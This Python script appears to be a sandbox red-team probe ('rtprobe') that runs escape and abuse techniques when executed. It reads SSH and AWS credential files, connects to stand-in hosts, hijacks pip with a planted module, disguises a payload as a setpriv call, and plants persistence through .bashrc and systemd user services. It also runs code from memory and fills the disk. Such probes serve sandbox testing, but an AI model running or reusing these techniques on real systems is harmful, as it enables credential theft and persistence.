import os, sys, socket, subprocess, stat, ctypes

HOME = os.path.expanduser("~")
PY = sys.executable
WHEEL = "@WHEEL@"


def _net(host, port):
    s = socket.socket()
    s.settimeout(1)
    try:
        s.connect((host, port))
        s.sendall(b"\x8f\x11\xa0 enc")
    except OSError:
        pass
    finally:
        s.close()


def _quiet(f):
    try:
        f()
    except Exception as exc:  # each probe independent
        sys.stderr.write(f"rtprobe: {f.__name__}: {exc!r}\n")


PAYLOAD = (
    "import os,socket\n"
    "try: open(os.path.expanduser('~/.ssh/id_rsa'),'rb').read()\n"
    "except OSError: pass\n"
    "s=socket.socket();s.settimeout(1)\n"
    "try: s.connect(('192.0.2.61',8443)); s.sendall(b'\\x8f\\x11enc')\n"
    "except OSError: pass\n"
)


def h1_setpriv():
    subprocess.Popen(
        ["setpriv", "-c", PAYLOAD, "--no-new-privs", "--bounding-set=-all"], executable=sys.executable
    ).wait(10)


def h1_pip():
    os.makedirs("/tmp/lk/pip", exist_ok=True)
    open("/tmp/lk/pip/__init__.py", "w").close()
    with open("/tmp/lk/pip/__main__.py", "w") as fh:
        fh.write(PAYLOAD.replace(".ssh/id_rsa", ".aws/credentials").replace("192.0.2.61", "198.51.100.62"))
    argv = [PY, "-m", "pip", "install", "--no-index", "--find-links", "/stage/artifacts", "--no-cache-dir",
            "--disable-pip-version-check", "--no-input", "--progress-bar", "off", "/stage/artifacts/" + WHEEL]
    subprocess.run(argv, cwd="/tmp/lk", timeout=20)


def h2_write_exec():
    data = open("/bin/true", "rb").read()
    fd = os.open("/tmp/dropx", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
    os.write(fd, data)
    os.close(fd)
    subprocess.run(["/tmp/dropx"], timeout=5)


def h2_fill():
    fd = os.open("/tmp/fill.bin", os.O_WRONLY | os.O_CREAT, 0o644)
    chunk = b"\0" * (32 << 20)
    try:
        for _ in range(40):
            os.write(fd, chunk)
    except OSError:
        pass
    finally:
        os.close(fd)
        os.unlink("/tmp/fill.bin")


def h3_cwd_key():
    open("/proc/self/cwd/../.ssh/id_rsa", "rb").read()
    os.stat("/proc/self/cwd/../.aws/credentials")
    os.stat(f"/proc/{os.getpid()}/cwd/../.kube/config") if os.path.exists(HOME + "/.kube") else None


def h3_symlink_bashrc():
    os.symlink(HOME, "/tmp/hl")
    with open("/tmp/hl/.bashrc", "a") as fh:
        fh.write("# rtprobe\n")


def h3_systemd():
    os.makedirs("/proc/self/cwd/../.config/systemd/user", exist_ok=True)
    with open("/proc/self/cwd/../.config/systemd/user/rt.service", "w") as fh:
        fh.write("[Service]\nExecStart=/bin/true\n")
    os.symlink(HOME + "/.config/systemd/user", "/tmp/su")
    with open("/tmp/su/rt2.service", "w") as fh:
        fh.write("[Service]\nExecStart=/bin/true\n")


def h3_link_cred():
    os.symlink(HOME + "/.ssh/id_rsa", "/tmp/k")
    open("/tmp/k", "rb").read()


def h3_fallocate_copy():
    fd = os.open("/tmp/fa", os.O_WRONLY | os.O_CREAT, 0o644)
    os.posix_fallocate(fd, 0, 4096)
    src = os.open("/bin/true", os.O_RDONLY)
    os.copy_file_range(src, fd, 4096)
    os.close(src)
    os.close(fd)


def h4_procfd_shell():
    fd = os.open("/bin/sh", os.O_RDONLY)
    subprocess.run([f"/proc/self/fd/{fd}", "-c", "true"], pass_fds=(fd,), timeout=5)
    subprocess.run([f"/dev/fd/{fd}", "-c", "true"], pass_fds=(fd,), timeout=5)


def h4_memfd():
    fd = os.memfd_create("rt", 0)
    os.write(fd, open("/bin/true", "rb").read())
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(fd, ["rt"], {})
        finally:
            os._exit(1)
    os.waitpid(pid, 0)


def h4_shebang():
    with open("/tmp/s.sh", "w") as fh:
        fh.write("#!/bin/sh\ntrue\n")
    os.chmod("/tmp/s.sh", 0o755)
    subprocess.run(["/tmp/s.sh"], timeout=5)


def p7_probes():
    open("/proc/self/status").read()
    os.path.exists("/.dockerenv")
    for p in ("/proc/1/cgroup", "/proc/self/cgroup", "/proc/1/sched", "/proc/self/mountinfo"):
        try:
            open(p).read()
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(0, 0, None, None)


for _f in (h1_setpriv, h1_pip, h2_write_exec, h3_cwd_key, h3_symlink_bashrc, h3_systemd,
           h3_link_cred, h3_fallocate_copy, h4_procfd_shell, h4_memfd, h4_shebang, p7_probes, h2_fill):
    _quiet(_f)
